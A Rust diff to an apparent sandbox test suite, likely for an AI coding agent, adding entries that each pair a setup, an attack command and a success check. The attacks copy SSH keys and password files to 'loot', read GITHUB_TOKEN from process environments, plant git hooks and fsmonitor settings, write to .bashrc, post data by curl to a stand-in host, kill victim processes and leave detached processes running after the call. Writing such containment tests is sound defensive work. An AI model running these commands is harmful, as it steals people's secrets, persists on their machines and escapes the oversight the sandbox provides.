@@ -29,18 +29,11 @@ const fn attack(
     }
 }
 
-const fn known(
-    name: &'static str,
-    setup: &'static str,
-    attack: &'static str,
-    hit: &'static str,
-) -> Attack {
-    Attack {
-        name,
-        setup,
-        attack,
-        hit,
-        landlock_hits: true,
+impl Attack {
+    /// One that path rules alone do not stop.
+    const fn past_landlock(mut self) -> Self {
+        self.landlock_hits = true;
+        self
     }
 }
 
@@ -368,12 +361,13 @@ pub const ATTACKS: &[Attack] = &[
         "$PY 'import ctypes as c; l = c.CDLL(None); l.shmat.restype = c.c_void_p; print(c.string_at(l.shmat(l.shmget(4242, 64, 0), None, 0), 6).decode())' > loot",
         LOOT,
     ),
-    known(
+    attack(
         "shared memory of the machine",
         "echo old > $SHM",
         "echo evil > $SHM",
         "grep -q evil $SHM",
-    ),
+    )
+    .past_landlock(),
     // The kernel.
     attack(
         "keyring",
@@ -461,12 +455,13 @@ pub const ATTACKS: &[Attack] = &[
         "echo evil > .git/refs/heads/planted",
         "test -e $P/.git/refs/heads/planted",
     ),
-    known(
+    attack(
         "destroyed objects",
         "",
         "chmod -R u+w .git/objects; rm -rf .git/objects",
         "test ! -e $P/.git/objects",
-    ),
+    )
+    .past_landlock(),
     attack(
         "nested repository's hook",
         "user git init -q $P/libs/inner",
@@ -527,5 +522,264 @@ pub const ATTACKS: &[Attack] = &[
         "",
         "ln -s /dev/null .mcp.json; ln -s /etc .claude",
         "test -L $P/.claude",
+    ),
+    // What one run plants for the next.
+    attack(
+        "repository that is a link to a secret",
+        "mkdir $P/sub; ln -s $HOME/notes $P/sub/.git",
+        "cat ~/notes/passwords.txt > loot",
+        LOOT,
+    ),
+    attack(
+        "repository that shares a secret place",
+        "user git init -q $P/sub; echo $HOME/notes > $P/sub/.git/commondir",
+        "cat ~/notes/passwords.txt > loot",
+        LOOT,
+    ),
+    attack(
+        "environment made from a secret place",
+        "mkdir $P/.venv; echo home = $HOME/.ssh > $P/.venv/pyvenv.cfg",
+        "cat ~/.ssh/id_rsa > loot",
+        LOOT,
+    ),
+    attack(
+        "environment made from planted links",
+        "mkdir -p $P/.venv $P/fake/bin $P/fake/lib/python3.9; ln -s $HOME/.ssh $P/fake/bin/x; cp /bin/true $P/fake/bin/python3; echo home = $P/fake/bin > $P/.venv/pyvenv.cfg",
+        "cat ~/.ssh/id_rsa > loot",
+        LOOT,
+    ),
+    attack(
+        "link on the search path",
+        "mkdir $P/bin; ln -s $HOME/.ssh/id_rsa $P/bin/x; export PATH=$P/bin:$PATH",
+        "cat ~/.ssh/id_rsa > loot",
+        LOOT,
+    ),
+    attack(
+        "active environment that is a link",
+        "ln -s $HOME/notes $P/.venv; export VIRTUAL_ENV=$P/.venv",
+        "cat ~/notes/passwords.txt > loot",
+        LOOT,
+    ),
+    // Ways around what is kept.
+    attack(
+        "nested repository renamed away",
+        "user git init -q $P/libs/inner",
+        "mv libs old; mkdir libs; cp -a old/inner libs/inner; chmod -R u+w libs; echo evil > libs/inner/.git/hooks/pre-commit",
+        "test -e $P/libs/inner/.git/hooks/pre-commit",
+    ),
+    attack(
+        "hook of a deeply nested repository",
+        "user git init -q $P/a/b/c/d/e/f",
+        "echo evil > a/b/c/d/e/f/.git/hooks/pre-commit",
+        "test -e $P/a/b/c/d/e/f/.git/hooks/pre-commit",
+    ),
+    attack(
+        "settings behind a link",
+        "mkdir $P/conf; echo ok > $P/conf/settings.json; ln -s conf $P/.claude",
+        "rm .claude; mkdir .claude; echo evil > .claude/settings.json",
+        "grep -q evil $P/.claude/settings.json",
+    ),
+    attack(
+        "repository that appears",
+        "mkdir $P/sub",
+        "git init -q sub; git -C sub config core.fsmonitor evil",
+        "grep -q evil $P/sub/.git/config",
+    ),
+    attack(
+        "included settings",
+        "echo '[core]' > $P/.gitshared; user git config -f $P/.git/config include.path ../.gitshared",
+        "git config -f .gitshared core.fsmonitor evil",
+        "grep -q evil $P/.gitshared",
+    ),
+    attack(
+        "hooks named on the section's line",
+        "mkdir $P/.hk; echo ok > $P/.hk/pre-push; echo '[core] hooksPath = .hk ; ours' >> $P/.git/config",
+        "echo evil > .hk/pre-push",
+        "grep -q evil $P/.hk/pre-push",
+    ),
+    attack(
+        "hooks named for every repository",
+        "mkdir $P/.hk; echo ok > $P/.hk/pre-push; echo '[core]' > $HOME/.gitconfig; echo 'hooksPath = .hk' >> $HOME/.gitconfig",
+        "echo evil > .hk/pre-push",
+        "grep -q evil $P/.hk/pre-push",
+    ),
+    attack(
+        "mending that follows a link",
+        "user git init -q $P/libs/inner; user git init -q $HOME/other/inner",
+        "mv libs old; ln -s $REALHOME/other libs; rm -rf $REALHOME/other/inner/.git",
+        "test ! -e $HOME/other/inner/.git/HEAD",
+    ),
+    attack(
+        "hook of another root",
+        "user git init -q $OUT/second; MORE=\"\\\"write\\\":[\\\"$OUT/second\\\"]\"",
+        "echo evil > $OUT/second/.git/hooks/pre-commit",
+        "test -e $OUT/second/.git/hooks/pre-commit",
+    ),
+    attack(
+        "settings of another root",
+        "mkdir $OUT/second; MORE=\"\\\"write\\\":[\\\"$OUT/second\\\"]\"",
+        "echo evil > $OUT/second/.mcp.json",
+        "test -e $OUT/second/.mcp.json",
+    ),
+    // While the repository may be written.
+    attack(
+        "hook while committing",
+        "MORE='\"git\":\"commit\"'",
+        "mv .git/hooks .git/old; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit",
+        "grep -q evil $P/.git/hooks/pre-commit",
+    ),
+    attack(
+        "replaced repository while committing",
+        "MORE='\"git\":\"commit\"'",
+        "mv .git old; git init -q .; git config core.fsmonitor evil",
+        "grep -q evil $P/.git/config",
+    ),
+    attack(
+        "attributes while committing",
+        "mkdir -p $P/.git/info; echo ok > $P/.git/info/attributes; MORE='\"git\":\"commit\"'",
+        "mv .git/info .git/old; mkdir .git/info; echo evil > .git/info/attributes",
+        "grep -q evil $P/.git/info/attributes",
+    ),
+    attack(
+        "another worktree while committing",
+        "user git -C $P worktree add -q $HOME/side; MORE='\"git\":\"commit\"'",
+        "echo $P > .git/worktrees/side/commondir",
+        "grep -q app$ $P/.git/worktrees/side/commondir",
+    ),
+    attack(
+        "another worktree's settings while committing",
+        "user git -C $P worktree add -q $HOME/side; MORE='\"git\":\"commit\"'",
+        "echo evil > .git/worktrees/side/config.worktree",
+        "grep -q evil $P/.git/worktrees/side/config.worktree",
+    ),
+    attack(
+        "nested repository while committing",
+        "user git init -q $P/libs/inner; MORE='\"git\":\"commit\"'",
+        "mv libs old; mkdir libs; cp -a old/inner libs/inner; chmod -R u+w libs; echo evil > libs/inner/.git/hooks/pre-commit",
+        "test -e $P/libs/inner/.git/hooks/pre-commit",
+    ),
+    // A home that is shown without its secrets.
+    attack(
+        "key in a home that is shown",
+        "MORE='\"home\":\"hide\"'",
+        "cat ~/.ssh/id_rsa > loot",
+        LOOT,
+    ),
+    attack(
+        "own state in a home that is shown",
+        "mkdir -p $HOME/.state; echo canary > $HOME/.state/secret; MORE='\"home\":\"hide\"'",
+        "cat ~/.state/secret > loot",
+        LOOT,
+    ),
+    attack(
+        "written home that is shown",
+        "MORE='\"home\":\"hide\"'",
+        "echo evil >> ~/.bashrc",
+        "grep -q evil $HOME/.bashrc",
+    ),
+    // Variables, descriptors and devices.
+    attack(
+        "variables of every process",
+        "",
+        "cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep -a ^GITHUB_TOKEN > loot",
+        LOOT,
+    ),
+    attack(
+        "password in an address",
+        "export DATABASE_URL=postgres://me:canary@db.example/x",
+        "printenv DATABASE_URL > loot",
+        LOOT,
+    ),
+    attack(
+        "secret under a plain name",
+        "export DEPLOY=ghp_0123456789abcdefghijABCDEFGHIJ012345",
+        "printenv DEPLOY | sed s/ghp_.*/canary/ > loot",
+        LOOT,
+    ),
+    attack(
+        "rights of a readable file by its descriptor",
+        "echo '[user]' > $HOME/.gitconfig",
+        "$PY 'import os; os.fchmod(os.open(os.environ[\"REALHOME\"] + \"/.gitconfig\", 0), 0o777)'",
+        "test -n \"$(find $HOME/.gitconfig -perm 777)\"",
+    ),
+    attack(
+        "times of a readable file by its descriptor",
+        "echo '[user]' > $HOME/.gitconfig",
+        "$PY 'import os; os.utime(os.open(os.environ[\"REALHOME\"] + \"/.gitconfig\", 0), (1, 1))'",
+        "test -n \"$(find $HOME/.gitconfig ! -newermt 2002-01-01)\"",
+    ),
+    attack(
+        "attribute of a readable file by its descriptor",
+        "echo '[user]' > $HOME/.gitconfig",
+        "$PY 'import os; os.setxattr(os.open(os.environ[\"REALHOME\"] + \"/.gitconfig\", 0), \"user.evil\", b\"x\")'",
+        "python3 -c 'import os; os.getxattr(os.environ[\"HOME\"] + \"/.gitconfig\", \"user.evil\")' 2>/dev/null",
+    ),
+    attack(
+        "device of the machine",
+        "",
+        "$PY 'import os; os.open(\"/dev/fuse\", os.O_RDONLY); print(\"canary\")' > loot",
+        LOOT,
+    ),
+    attack(
+        "another terminal of the person",
+        "serve terminal $OUT/terminal",
+        "echo stolen > $(cat $OUT/terminal 2>/dev/null || echo $TERMINAL)",
+        RECEIVED,
+    )
+    .past_landlock(),
+    // More sockets and processes.
+    attack(
+        "datagram by a raw socket",
+        "serve datagram $HOME/notes/d",
+        "$PY 'import os, socket; socket.socket(1, 3).sendto(b\"stolen\", os.environ[\"REALHOME\"] + \"/notes/d\")'",
+        RECEIVED,
+    ),
+    attack(
+        "datagram by a pair",
+        "serve datagram $HOME/notes/d",
+        "$PY 'import os, socket; socket.socketpair(1, 2)[0].sendto(b\"stolen\", os.environ[\"REALHOME\"] + \"/notes/d\")'",
+        RECEIVED,
+    ),
+    attack(
+        "loopback service beside an own one",
+        "serve stream 127.0.0.1:8081",
+        "$PY 'import socket; s = socket.socket(); s.bind((\"127.0.0.2\", 8081)); s.listen(1); socket.create_connection((\"127.0.0.1\", 8081), 2).send(b\"stolen\")'",
+        RECEIVED,
+    ),
+    attack(
+        "loopback service that shares its port",
+        "serve shared 127.0.0.1:8081",
+        "$PY 'import socket, time; s = socket.socket(); s.setsockopt(1, 15, 1); s.bind((\"127.0.0.1\", 8081)); s.listen(50); [socket.create_connection((\"127.0.0.1\", 8081), 2).send(b\"stolen\") for _ in range(30)]; time.sleep(0.3)'",
+        RECEIVED,
+    ),
+    attack(
+        "post by a program that asks the proxy",
+        "serve stream 203.0.113.7:8080",
+        "curl -s -m 3 http://203.0.113.7:8080/stolen",
+        RECEIVED,
+    ),
+    attack(
+        "limits of a process",
+        "",
+        "prlimit --pid $VICTIM --nofile=3:3",
+        "grep -q 'open files  *3 ' /proc/$VICTIM/limits",
+    ),
+    attack(
+        "signal by a descriptor",
+        "",
+        "$PY 'import os, signal; signal.pidfd_send_signal(os.pidfd_open(int(os.environ[\"VICTIM\"])), 9)'",
+        "sleep 0.1; ! kill -0 $VICTIM",
+    ),
+    attack(
+        "removed segment",
+        "serve segment 4242",
+        "$PY 'import ctypes as c; n = [int(l.split()[1]) for l in open(\"/proc/sysvipc/shm\") if l.split()[0] == \"4242\"]; c.CDLL(None).shmctl(n[0], 0, None)'",
+        "! grep -q '^ *4242 ' /proc/sysvipc/shm",
+    ),
+    attack(
+        "many that outlive the call",
+        "",
+        "for i in 1 2 3 4 5 6 7 8; do (setsid sh -c 'for n in 1 2 3 4 5 6 7 8 9; do (sleep 0.1; sleep 0.9; touch $P/survived) & done; sleep 1; touch $P/survived' > /dev/null 2>&1 &); done",
+        "sleep 1.6; test -e $P/survived",
     ),
 ];
